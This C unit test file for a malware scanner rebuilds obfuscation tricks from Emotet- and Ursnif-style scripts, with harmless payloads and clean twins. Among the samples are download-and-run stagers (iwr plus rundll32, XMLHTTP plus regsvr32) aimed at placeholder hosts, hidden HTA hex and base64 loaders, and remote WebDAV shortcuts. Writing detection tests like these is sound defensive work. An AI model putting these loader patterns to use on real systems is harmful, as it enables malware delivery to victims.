/* Constructs seen in real malicious scripts, rebuilt here with harmless content: code assembled
 * for eval / Execute / ExecuteGlobal, characters looked up in arrays and objects, ActiveXObject
 * with a computed ProgID, scriptlets and XSL with script (also behind junk and without an
 * extension), PowerShell that decodes hex character codes, Internet shortcuts (.url) to remote
 * files, WebDAV and search-ms:, a CHM header, and HTA payloads as hex or gzip+base64 inside an
 * element. Each case also has a harmless twin that must not get the rule. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "emoguard/emoguard.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>

static eg_report *scan_named(const void *data, size_t len, const char *name)
{
    eg_options opt;
    eg_options_default(&opt);
    eg_scanner *sc = NULL;
    char err[200];
    eg_report *warm = eg_test_scan("x", 1, NULL); /* makes sure eg_global_init ran */
    eg_report_free(warm);
    assert_int_equal(eg_scanner_new(&opt, &sc, err, sizeof err), EG_OK);
    eg_scan_input in = {.source = name, .data = data, .len = len};
    eg_report *r = NULL;
    assert_int_equal(eg_scanner_scan(sc, &in, &r), EG_OK);
    eg_scanner_free(sc);
    return r;
}

static eg_report *scan_str(const char *s, const char *name)
{
    return scan_named(s, strlen(s), name);
}

static const char *evidence_of(const eg_report *r, const char *rule)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (!strcmp(eg_rule_get(f->rule)->id, rule))
            return f->evidence ? f->evidence : "";
    }
    return NULL;
}

static bool has_rule(const eg_report *r, const char *rule)
{
    return evidence_of(r, rule) != NULL;
}

static const eg_object *object_named(const eg_report *r, const char *name)
{
    for (size_t i = 0; i < eg_report_object_count(r); i++)
        if (!strcmp(eg_report_object(r, i)->name, name))
            return eg_report_object(r, i);
    return NULL;
}

/* ---- JScript ---- */

static void js_array_lookup_and_eval(void **st)
{
    (void)st;
    const char *js = "var t = [\"Scr\", \"WS\", \"ipt\", \".She\", \"ll\"];\n"
                     "var q = t[1] + \"cr\" + t[2] + t[3] + t[4];\n"
                     "var o = new ActiveXObject(q);\n"
                     "var c = \"o.R\" + \"un('notepad.exe'\" + \", 0)\";\n"
                     "eval(c);\n";
    eg_report *r = scan_str(js, "readme.js");
    assert_non_null(strstr(evidence_of(r, "SCRIPT.COMPUTED_PROGID"), "\"WScript.Shell\""));
    assert_non_null(strstr(evidence_of(r, "SCRIPT.DYNAMIC_CODE"), "eval(c"));
    const eg_object *c = object_named(r, "[JScript run by eval]");
    assert_non_null(c);
    assert_int_equal(c->size, strlen("o.Run('notepad.exe', 0)"));
    assert_true(has_rule(r, "SCRIPT.EXECUTES")); /* "wscript.shell" + ".run" once recovered */
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

static void js_object_lookup(void **st)
{
    (void)st;
    const char *js = "var m = {a: \"MSXML2\", \"b\": \".XML\", c: 'HTTP'};\n"
                     "var x = new ActiveXObject(m.a + m[\"b\"] + m.c);\n"
                     "x.open(\"GET\", \"http://dl.example.test/p.bin\", false);\n";
    eg_report *r = scan_str(js, "x.js");
    assert_non_null(strstr(evidence_of(r, "SCRIPT.COMPUTED_PROGID"), "\"MSXML2.XMLHTTP\""));
    assert_true(
        has_rule(r, "SCRIPT.DOWNLOADER")); /* the recovered ProgID joins the behaviour check */
    eg_report_free(r);
}

static void js_literals_are_not_computed(void **st)
{
    (void)st;
    const char *js = "var fso = new ActiveXObject(\"Scripting.FileSystemObject\");\n"
                     "var n = eval(\"1 + 2\");\n"
                     "var s = \"a\" + \"b\";\n"
                     "var q = \"SELECT \" + s; db.execute(q); r.eval(q);\n"
                     "WScript.Echo(n + s);\n";
    eg_report *r = scan_str(js, "tool.js");
    assert_false(has_rule(r, "SCRIPT.COMPUTED_PROGID"));
    assert_false(has_rule(r, "SCRIPT.DYNAMIC_CODE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

/* ---- VBScript ---- */

static void vbs_execute_assembled(void **st)
{
    (void)st;
    const char *vbs =
        "Dim a, b, code\r\n"
        "a = \"Crea\"\r\n"
        "a = a & \"teOb\" & \"ject\"\r\n"
        "b = \"WScr\" _\r\n"
        "  & \"ipt.Shell\"\r\n"
        "code = \"Set o = \" & a & \"(\"\"\" & b & \"\"\")\" & vbCrLf\r\n"
        "code = \"Set o = \" & a & \"(\"\"\" & b & \"\"\"): o.Run \"\"notepad.exe\"\", 0\"\r\n"
        "ExecuteGlobal code\r\n";
    eg_report *r = scan_str(vbs, "invoice.vbs");
    assert_non_null(strstr(evidence_of(r, "SCRIPT.DYNAMIC_CODE"), "ExecuteGlobal(code"));
    const eg_object *c = object_named(r, "[VBScript run by Execute]");
    assert_non_null(c);
    const char *want = "Set o = CreateObject(\"WScript.Shell\"): o.Run \"notepad.exe\", 0";
    assert_int_equal(c->size, strlen(want)); /* the report keeps no data: the size must match */
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

static void vbs_computed_createobject(void **st)
{
    (void)st;
    const char *vbs = "p = \"Shell.\" & \"Application\"\r\nSet s = CreateObject(p)\r\n";
    eg_report *r = scan_str(vbs, "a.vbs");
    assert_non_null(strstr(evidence_of(r, "SCRIPT.COMPUTED_PROGID"), "\"Shell.Application\""));
    eg_report_free(r);
    const char *plain = "Set s = CreateObject(\"Scripting.Dictionary\")\r\ns.Add \"a\", 1\r\n";
    r = scan_str(plain, "b.vbs");
    assert_false(has_rule(r, "SCRIPT.COMPUTED_PROGID"));
    eg_report_free(r);
}

/* reversed strings, junk removed with split/join and replace, slices: in JScript and VBScript */
static void string_functions(void **st)
{
    (void)st;
    const char *js =
        "var a = \"llehS.tpircSW\".split(\"\").reverse().join(\"\");\n"
        "var u = \"hXXtXXtXXp://dl.exXXample.test/p.exe\".split(\"XX\").join(\"\");\n"
        "var c = \"zzMSXML2.XMLHTTP\".substr(2).replace(\"XMLHTTP\", \"ServerXMLHTTP\");\n"
        "var o = new ActiveXObject(a);\nvar h = new ActiveXObject(c);\n"
        "h.open(\"GET\", u, false);\n";
    eg_report *r = scan_str(js, "a.js");
    const char *ev = evidence_of(r, "SCRIPT.COMPUTED_PROGID");
    assert_non_null(ev);
    assert_non_null(strstr(ev, "\"WScript.Shell\""));
    bool url = false;
    for (size_t i = 0; i < eg_report_ioc_count(r); i++)
        url |= !strcmp(eg_report_ioc(r, i)->value, "http://dl.example.test/p.exe");
    assert_true(url); /* the junk-free URL was recovered */
    eg_report_free(r);
    const char *vbs = "a = StrReverse(\"tcejbOetaerC\")\r\n"
                      "b = Replace(\"W#Scr#ipt.Sh#ell\", \"#\", \"\")\r\n"
                      "c = Mid(\"xxShell.Applicationyy\", 3, 17)\r\n"
                      "d = UCase(Left(\"execute me\", 7))\r\n"
                      "Set o = CreateObject(c)\r\n"
                      "Execute \"Set w = \" & a & \"(\"\"\" & b & \"\"\")\"\r\n";
    r = scan_str(vbs, "b.vbs");
    ev = evidence_of(r, "SCRIPT.COMPUTED_PROGID");
    assert_non_null(ev);
    assert_non_null(strstr(ev, "\"Shell.Application\""));
    const eg_object *c = object_named(r, "[VBScript run by Execute]");
    assert_non_null(c);
    assert_int_equal(c->size, strlen("Set w = CreateObject(\"WScript.Shell\")"));
    eg_report_free(r);
}

/* ---- scriptlets and XSL ---- */

static const char sct[] =
    "<?XML version=\"1.0\"?>\r\n<scriptlet>\r\n"
    "<registration progid=\"Demo\" classid=\"{00000000-0000-0000-0000-000000000001}\">\r\n"
    "<script language=\"JScript\"><![CDATA[\r\n"
    "  var r = new ActiveXObject(\"WScript.Shell\").Run(\"notepad.exe\");\r\n"
    "]]></script>\r\n</registration>\r\n</scriptlet>\r\n";

static void scriptlet_bare_and_padded(void **st)
{
    (void)st;
    eg_report *r = scan_named(sct, sizeof sct - 1, "update");
    assert_string_equal(eg_type_name(eg_report_object(r, 0)->type), "script");
    assert_true(has_rule(r, "SCRIPT.SCRIPTLET"));
    assert_true(has_rule(r, "SCRIPT.EXECUTES"));
    eg_report_free(r);
    /* behind 9 KiB of Unicode box characters, tag written <scriptleT, VBScript inside */
    size_t pad = 3000, n = pad * 3;
    const char *body = "\r\n<scriptleT\r\n>\r\n<script language = 'vbs'>\r\n"
                       "x = \"WScr\" + \"ipt.Sh\" + \"ell\"\r\nSet o = CreateObject(x)\r\n"
                       "</script>\r\n</scriptlet>\r\n";
    char *buf = malloc(n + strlen(body));
    assert_non_null(buf);
    for (size_t i = 0; i < pad; i++)
        memcpy(buf + 3 * i, "\xE2\x94\x81", 3);
    memcpy(buf + n, body, strlen(body));
    r = scan_named(buf, n + strlen(body), "wia101wr.dms");
    assert_true(has_rule(r, "SCRIPT.SCRIPTLET"));
    assert_non_null(strstr(evidence_of(r, "SCRIPT.COMPUTED_PROGID"), "\"WScript.Shell\""));
    eg_report_free(r);
    free(buf);
}

static void xsl_with_script(void **st)
{
    (void)st;
    const char *xsl =
        "<?xml version='1.0'?>\n"
        "<stylesheet xmlns=\"http://www.w3.org/1999/XSL/Transform\" "
        "xmlns:ms=\"urn:schemas-microsoft-com:xslt\" xmlns:user=\"placeholder\" version=\"1.0\">\n"
        "<output method=\"text\"/>\n"
        "<ms:script implements-prefix=\"user\" language=\"JScript\"><![CDATA[\n"
        "var r = new ActiveXObject(\"WScript.Shell\").Run(\"notepad.exe\");\n"
        "]]></ms:script>\n</stylesheet>\n";
    eg_report *r = scan_str(xsl, "format.xsl");
    assert_true(has_rule(r, "SCRIPT.XSL_SCRIPT"));
    assert_true(has_rule(r, "SCRIPT.EXECUTES"));
    eg_report_free(r);
    const char *plain =
        "<?xml version='1.0'?>\n<xsl:stylesheet version=\"1.0\" "
        "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\">\n"
        "<xsl:template match=\"/\"><p><xsl:value-of select=\"a\"/></p></xsl:template>\n"
        "</xsl:stylesheet>\n";
    r = scan_str(plain, "report.xsl");
    assert_false(has_rule(r, "SCRIPT.XSL_SCRIPT"));
    eg_report_free(r);
}

/* ---- PowerShell decoding hex character codes ---- */

static void ps1_hex_char_codes(void **st)
{
    (void)st;
    const char *inner =
        "@echo off\r\npowershell iwr -uri http://192.0.2.7/a.dat -o C:\\programdata\\a.jpg\r\n"
        "rundll32 C:\\programdata\\a.jpg,Wind\r\nexit\r\n";
    char hex[1024] = "";
    for (size_t i = 0; inner[i]; i++)
        snprintf(hex + strlen(hex), sizeof hex - strlen(hex), "%s%02x", i ? " " : "",
                 (unsigned char)inner[i]);
    char ps[2048];
    snprintf(ps, sizeof ps,
             "powershell $k = 'f29e'; $a = '%s' -Split ' ' | foreach "
             "{[char]([convert]::toint16($_,16))}; "
             "$b = $a -join ''; $b > %%tmp%%\\x.cmd&&start /Min %%tmp%%\\x.cmd\r\n",
             hex);
    eg_report *r = scan_str(ps, "script.ps1");
    assert_true(has_rule(r, "SCRIPT.HEX_DECODE"));
    const eg_object *c = object_named(r, "[decoded hex text]");
    assert_non_null(c);
    assert_int_equal(c->size, strlen(inner));
    assert_true(has_rule(r, "CMD.DOWNLOAD_EXECUTE")); /* iwr then rundll32, in the decoded text */
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

/* ---- Internet shortcuts ---- */

static void url_remote_file(void **st)
{
    (void)st;
    eg_report *r = scan_str("[InternetShortcut]\r\nURL=file://192.0.2.10/share/doc.zip/doc.vbs\r\n"
                            "IconIndex=70\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n",
                            "Invoice.url");
    assert_true(has_rule(r, "URLFILE.REMOTE_FILE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    /* WebDAV, behind a property-store section, scanned bare */
    r = scan_str("[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,9\r\n[InternetShortcut]\r\n"
                 "IDList=\r\nURL=\\\\dav.example.test@SSL\\DavWWWRoot\\doc.lnk\r\n",
                 "attachment");
    assert_string_equal(eg_type_name(eg_report_object(r, 0)->type), "script");
    assert_non_null(strstr(evidence_of(r, "URLFILE.REMOTE_FILE"), "WebDAV"));
    eg_report_free(r);
}

static void url_search_ms_and_local(void **st)
{
    (void)st;
    eg_report *r = scan_str("[InternetShortcut]\r\nURL=search-ms:query=invoice&crumb=location:"
                            "%5C%5Cdav.example.test@SSL%5CDavWWWRoot&displayname=Invoices\r\n",
                            "Invoices.url");
    assert_true(has_rule(r, "URLFILE.SEARCH_MS"));
    assert_true(has_rule(r, "URLFILE.REMOTE_FILE"));
    eg_report_free(r);
    r = scan_str("[InternetShortcut]\r\nURL=file:///C:/Windows/System32/notepad.exe\r\n", "n.url");
    assert_true(has_rule(r, "URLFILE.ACTIVE_TARGET"));
    assert_false(has_rule(r, "URLFILE.REMOTE_FILE"));
    eg_report_free(r);
    /* an ordinary web link: reported, not malicious */
    r = scan_str("[InternetShortcut]\r\nURL=https://www.example.jp/news/\r\n", "news.url");
    assert_true(has_rule(r, "URLFILE.SHORTCUT"));
    assert_false(has_rule(r, "URLFILE.REMOTE_FILE"));
    assert_false(has_rule(r, "URLFILE.ACTIVE_TARGET"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_SUSPICIOUS);
    eg_report_free(r);
}

/* ---- CHM ---- */

static void chm_header(void **st)
{
    (void)st;
    uint8_t chm[0x60] = {'I', 'T', 'S', 'F', 3, 0, 0, 0, 0x60, 0, 0, 0, 1, 0, 0, 0};
    eg_report *r = scan_named(chm, sizeof chm, "manual.pdf");
    assert_true(has_rule(r, "SCRIPT.CHM"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_SUSPICIOUS);
    eg_report_free(r);
}

/* ---- HTA payloads inside elements ---- */

static char *hexify(const uint8_t *p, size_t n)
{
    char *h = malloc(n * 2 + n / 32 + 2);
    size_t o = 0;
    for (size_t i = 0; i < n; i++) {
        o += (size_t)sprintf(h + o, "%02X", p[i]);
        if (i % 32 == 31)
            h[o++] = '\n';
    }
    h[o] = 0;
    return h;
}

static char *b64(const uint8_t *p, size_t n)
{
    static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    char *o = malloc(n * 4 / 3 + 8);
    size_t k = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) |
                     (i + 2 < n ? p[i + 2] : 0);
        o[k++] = a[v >> 18 & 63];
        o[k++] = a[v >> 12 & 63];
        o[k++] = i + 1 < n ? a[v >> 6 & 63] : '=';
        o[k++] = i + 2 < n ? a[v & 63] : '=';
    }
    o[k] = 0;
    return o;
}

static const char stage2[] =
    "Set o = CreateObject(\"MSXML2.XMLHTTP\")\r\no.Open \"GET\", \"http://dl.example.test/s.ocx\", "
    "False\r\n"
    "o.Send\r\nSet s = CreateObject(\"ADODB.Stream\")\r\ns.Open: s.Type = 1: s.Write "
    "o.ResponseBody\r\n"
    "s.SaveToFile \"C:\\Users\\Public\\s.ocx\", 2\r\n"
    "CreateObject(\"WScript.Shell\").Run \"regsvr32 /s C:\\Users\\Public\\s.ocx\", 0\r\n"
    "' padding so that the element is long enough to be worth decoding .....................\r\n";

/* A page whose content comes out of an escaped string at run time (the HTML "source protector"
 * packers of 2021 Emotet landing pages, after blank lines and tabs): HTML.PACKED_PAGE, and the
 * decoded code is recovered and analysed. A page whose script only writes literal text is not
 * packed. */
/* JScript that hides its ProgIDs as \u / \x escapes inside the literals (a 2021 stage-2
 * backdoor: this['\u0041ctiveX\u004Fbject'], new X('\u0057Script.\x53hell')): the names are
 * seen once the escapes are undone, so download + run is recognised. */
static void js_unicode_escapes(void **st)
{
    (void)st;
    static const char js[] =
        "function g(){var a=this['\\u0041\\u0063tive\\u0058\\u004Fbject'];"
        "return new a('\\u0057Script.\\x53hell');}\n"
        "var h=new ActiveXObject(\"MSXML2.XMLHTTP\");h.open(\"GET\",u,false);h.send();\n"
        "var s=new ActiveXObject(\"ADODB.Stream\");s.write(h.responseBody);s.SaveToFile(p,2);\n"
        "g().Run(\"\\x22\" + p + \"\\x22\");\n";
    eg_report *r = scan_str(js, "s.js");
    assert_true(has_rule(r, "SCRIPT.DOWNLOAD_EXECUTE"));
    eg_report_free(r);
    /* escapes of quotes and backslashes are left alone: no false literal ends */
    r = scan_str("var p = 'C:\\x5cUsers\\x5c' + \"\\x22q\\x22\";\n", "p.js");
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

static void html_packed_page(void **st)
{
    (void)st;
    static const char page[] =
        "\r\n\r\n\t\t<html><head><script>l1l=document.documentMode||document.all;"
        "var t='%64%6f%63%75%6d%65%6e%74%2e%74%69%74%6c%65%3d%27%78%27%3b';"
        "eval( unescape(t));</script></head><body></body></html>";
    eg_report *r = scan_str(page, "pp.html");
    assert_non_null(evidence_of(r, "HTML.PACKED_PAGE"));
    assert_true(has_rule(r, "SCRIPT.DYNAMIC_CODE"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    r = scan_str("<html><head><script>document.write('<p>hello</p>');</script></head></html>",
                 "p.html");
    assert_false(has_rule(r, "HTML.PACKED_PAGE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
}

static void hta_hex_element(void **st)
{
    (void)st;
    char *hex = hexify((const uint8_t *)stage2, sizeof stage2 - 1);
    char page[8192];
    snprintf(page, sizeof page,
             "\r\n\r\n   <html><head><hta:application windowstate=\"minimize\"/>\r\n"
             "<script language=\"VBScript\">\r\nSub Window_OnLoad\r\n"
             "  t = document.getElementById(\"d\").innerText\r\nEnd Sub\r\n</script></head>\r\n"
             "<body><div id=\"d\" style=\"display:none\">\r\n%s\r\n</div></body></html>\r\n",
             hex);
    eg_report *r = scan_str(page, "doc.hta");
    assert_non_null(evidence_of(r, "HTML.ELEMENT_PAYLOAD"));
    assert_non_null(strstr(evidence_of(r, "HTML.ELEMENT_PAYLOAD"), "hex"));
    assert_true(has_rule(r, "SCRIPT.DOWNLOAD_EXECUTE"));
    eg_report_free(r);
    free(hex);
}

static void hta_gzip_base64_element(void **st)
{
    (void)st;
    uint8_t gz[4096];
    z_stream z = {0};
    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
    z.next_in = (Bytef *)stage2;
    z.avail_in = sizeof stage2 - 1;
    z.next_out = gz;
    z.avail_out = sizeof gz;
    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
    size_t gn = z.total_out;
    deflateEnd(&z);
    char *b = b64(gz, gn);
    assert_true(strlen(b) >= 256); /* long enough to be read as a payload */
    char page[16384];
    snprintf(
        page, sizeof page,
        "<html><head><hta:application/><script>var t = document.getElementById('p').textContent;"
        "</script></head><body><p id='p'>%s</p></body></html>",
        b);
    eg_report *r = scan_str(page, "view.hta");
    assert_non_null(evidence_of(r, "HTML.ELEMENT_PAYLOAD"));
    assert_non_null(strstr(evidence_of(r, "HTML.ELEMENT_PAYLOAD"), "gzip"));
    assert_true(has_rule(r, "SCRIPT.DOWNLOAD_EXECUTE"));
    eg_report_free(r);
    free(b);
    /* the same page without script that reads the element: no rule */
    char *hex = hexify((const uint8_t *)stage2, sizeof stage2 - 1);
    snprintf(page, sizeof page, "<html><body><pre>%s</pre></body></html>", hex);
    r = scan_str(page, "dump.html");
    assert_false(has_rule(r, "HTML.ELEMENT_PAYLOAD"));
    eg_report_free(r);
    free(hex);
    /* a page with script that reads elements and a long paragraph of words without punctuation:
     * every character is a base64 one, but it is prose */
    char prose[4096] = "<html><head><script>var e = document.getElementById('t');</script></head>"
                       "<body><p id='t'>";
    for (int i = 0; i < 60; i++)
        strcat(prose, "Tanaka Suzuki Sato ");
    strcat(prose, "</p></body></html>");
    r = scan_str(prose, "list.html");
    assert_false(has_rule(r, "HTML.ELEMENT_PAYLOAD"));
    eg_report_free(r);
}

/* Ursnif 2020: hex text with junk in a <p>, read through innerHTML, junk removed, run by
 * new Function("u", "c", body): the body is the last argument */
static void page_hex_text_to_function(void **st)
{
    (void)st;
    const char *code = "var s = new ActiveXObject(\"WScript.Shell\"); s.Run(\"notepad.exe\");";
    char hex[2048] = "";
    for (size_t i = 0; code[i]; i++)
        snprintf(hex + strlen(hex), sizeof hex - strlen(hex), "%02x%s", (unsigned char)code[i],
                 "6731");
    char page[4096];
    snprintf(page, sizeof page,
             "<!DOCTYPE html>\n<html><body><p id=\"content\">%s</p>\n"
             "<script language=\"javascript\">var w = new ActiveXObject(\"WScript.Shell\");\n"
             "var e = document.getElementById(\"content\");\nvar h = e.innerHTML;\n"
             "h = h.replace(/g1/ig, \"\");\nvar f = new Function(\"u\", \"c\", h);\nf(\"x\", 0);\n"
             "</script></body></html>\n",
             hex);
    eg_report *r = scan_str(page, "invoice.html");
    assert_non_null(evidence_of(r, "HTML.ELEMENT_PAYLOAD"));
    assert_non_null(strstr(evidence_of(r, "HTML.ELEMENT_PAYLOAD"), "runs code"));
    assert_non_null(evidence_of(r, "SCRIPT.DYNAMIC_CODE"));
    assert_non_null(strstr(evidence_of(r, "SCRIPT.DYNAMIC_CODE"), "Function(h"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(js_array_lookup_and_eval),
        cmocka_unit_test(js_object_lookup),
        cmocka_unit_test(js_literals_are_not_computed),
        cmocka_unit_test(vbs_execute_assembled),
        cmocka_unit_test(vbs_computed_createobject),
        cmocka_unit_test(scriptlet_bare_and_padded),
        cmocka_unit_test(xsl_with_script),
        cmocka_unit_test(ps1_hex_char_codes),
        cmocka_unit_test(url_remote_file),
        cmocka_unit_test(url_search_ms_and_local),
        cmocka_unit_test(chm_header),
        cmocka_unit_test(js_unicode_escapes),
        cmocka_unit_test(html_packed_page),
        cmocka_unit_test(hta_hex_element),
        cmocka_unit_test(hta_gzip_base64_element),
        cmocka_unit_test(string_functions),
        cmocka_unit_test(page_hex_text_to_function),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
